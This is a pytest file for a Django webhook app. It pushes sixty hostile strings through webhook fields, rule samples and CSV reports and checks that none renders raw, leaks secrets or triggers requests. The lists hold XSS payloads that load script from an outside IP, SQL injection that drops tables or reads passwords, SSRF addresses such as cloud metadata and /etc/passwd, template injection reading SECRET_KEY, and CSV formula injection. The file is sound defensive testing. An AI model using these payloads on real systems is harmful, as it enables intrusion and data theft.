"""Sixty texts that attack whoever takes them for more than texts: none does anything, and no page shows one raw."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from campaigns.models import Campaign
from issuance.hooks.making import change_rules
from issuance.models import EventBatch, GuestList, Hook, HookEvent
from tests.issuance.hooks.tools import Tool
from tests.world import World
from thanxportal.accounts.models import Merchant, User
from thanxportal.partner_simulator import Simulator

pytestmark = pytest.mark.django_db
SCRIPTS = [
    "<script>alert(1)</script>", "\"><script src=//203.0.113.7/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "</td></table><iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "' autofocus onfocus=alert(1) x='", "\" onmouseover=\"alert(1)", "<!--<img src=--><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>", "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=//203.0.113.7>", "<base href=//203.0.113.7/>", "</title><script>1</script>",
    "</script><script>alert(1)</script>", "<form action=//203.0.113.7><button>Save</button></form>",
    "<input name=csrfmiddlewaretoken value=x>", "&lt;script&gt;alert(1)&lt;/script&gt;", "\u2028<script>1</script>",
]  # fmt: skip
STATEMENTS = [
    "' OR '1'='1", "'; DROP TABLE issuance_hookevent; --", "\" OR \"\"=\"", "1; UPDATE accounts_user SET is_staff=1",
    "') UNION SELECT password FROM accounts_user --", "admin'--", "1 OR SLEEP(5)", "'||pg_sleep(5)||'",
    "\\'; DELETE FROM issuance_hook; --", "%' AND 1=0 --", "$$; SELECT 1; $$", "0x27", "' AND '%s'='%s", "%(x)s %s %%",
    "{\"$gt\": \"\"}",
]  # fmt: skip
ADDRESSES = [
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:6379/", "http://[::1]:8000/admin/",
    "file:///etc/passwd", "gopher://127.0.0.1:5432/_x", "http://2130706433/", "//203.0.113.7/x", "ftp://203.0.113.7/",
    "https://example.com/hooks/in/x", "dict://127.0.0.1:11211/", "http://localhost@203.0.113.7/", "\\\\203.0.113.7\\x",
]  # fmt: skip
TEMPLATES = [
    "{{ settings.SECRET_KEY }}", "{% load log %}", "{% debug %}", "{{ 7|add:7 }}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{0.__class__.__init__.__globals__}", "%(password)s", "{{request.user.password}}", "=HYPERLINK(\"//203.0.113.7\")",
    "@SUM(1+1)*cmd|' /C calc'!A0", "../../../../etc/passwd",
]  # fmt: skip
TEXTS = [*SCRIPTS, *STATEMENTS, *ADDRESSES, *TEMPLATES]
ClientOf = Callable[[User], Client]


def test_there_are_sixty() -> None:
    assert len({*TEXTS}) == 60


def pages(tool: Tool, merchant: Merchant, browser: Client) -> list[str]:
    """All pages on which an event or the names of its fields can stand, in full where that is possible."""
    handle = merchant.handle
    found = [browser.get(reverse(f"issuance:{name}", args=[handle])) for name in ("home", "hooks", "integrations")]
    found += [browser.get(reverse(f"issuance:{name}", args=[handle, tool.hook.pk])) for name in ("hook", "hook_rules")]
    found.append(browser.get(reverse("accounts:activity", args=[handle])))
    for event in HookEvent.objects.all():
        found.append(browser.get(reverse("issuance:hook_event", args=[handle, event.pk])))
        found.append(browser.post(reverse("issuance:hook_event_reveal", args=[handle, event.pk])))
    assert {each.status_code for each in found} == {200}
    return [each.content.decode() for each in found]


@pytest.mark.parametrize("text", TEXTS)
def test_a_text_is_a_text_wherever_it_stands(
    text: str, tool: Tool, harbor: Merchant, ana: User, client_of: ClientOf, simulator: Simulator, settings: Any
) -> None:
    asked = len(simulator.requests)
    tool.reads({"email": "/email", "reason": "/reason"}, ("/score", "is", text))
    hostile = {"email": text, "reason": text, "score": text, text: text, "list": [{text: [text]}]}
    assert tool.send(hostile, webhook_id=text.encode("ascii", "ignore").decode()).status_code == 202
    event = tool.event()
    assert (event.state, EventBatch.objects.count()) == ("waits", 0)
    assert ["/reason", text.strip()] in event.fields
    for page in pages(tool, harbor, client_of(ana)):
        if any(sign in text for sign in "<>\"'"):
            assert text not in page
        for leak in (settings.SECRET_KEY, "root:x:0", ana.password, tool.secret):
            assert not leak or leak not in page
    assert len(simulator.requests) == asked
    assert Hook.objects.count() == 1


def test_a_hostile_reason_of_a_real_guest_reaches_thanx_as_nothing_and_the_report_as_a_text(
    tool: Tool, harbor: Merchant, ana: User, client_of: ClientOf, world: World
) -> None:
    tool.reads({"email": "/email", "reason": "/reason"})
    for number, text in enumerate(TEXTS):
        tool.send({"email": f"guest{number}@example.com", "reason": text})
    world.drive()
    made = GuestList.objects.get()
    assert (made.rewarded_count + made.refused_count, made.closed) == (60, True)
    address = reverse("issuance:report", args=[harbor.handle, made.pk])
    report = b"".join(client_of(ana).get(address).streaming_content).decode()  # type: ignore[attr-defined]
    assert '"=HYPERLINK' not in report
    assert ",=HYPERLINK" not in report


@pytest.mark.parametrize("text", TEXTS[::4])
def test_a_pasted_sample_is_a_text_and_does_nothing(
    text: str, tool: Tool, harbor: Merchant, ana: User, client_of: ClientOf, one_arm: Campaign
) -> None:
    change_rules(tool.hook, mapping={"email": "/email"}, conditions=[], actor=ana)
    form = {"sample": f"email={text}&x={text}", "email": "/email", "test": "yes", "c-TOTAL_FORMS": 0,
            "c-INITIAL_FORMS": 0}  # fmt: skip
    page = client_of(ana).post(reverse("issuance:hook_rules", args=[harbor.handle, tool.hook.pk]), form)
    assert page.status_code in (200, 422)
    if any(sign in text for sign in "<>\"'"):
        assert text not in page.content.decode()
    assert not HookEvent.objects.exists()
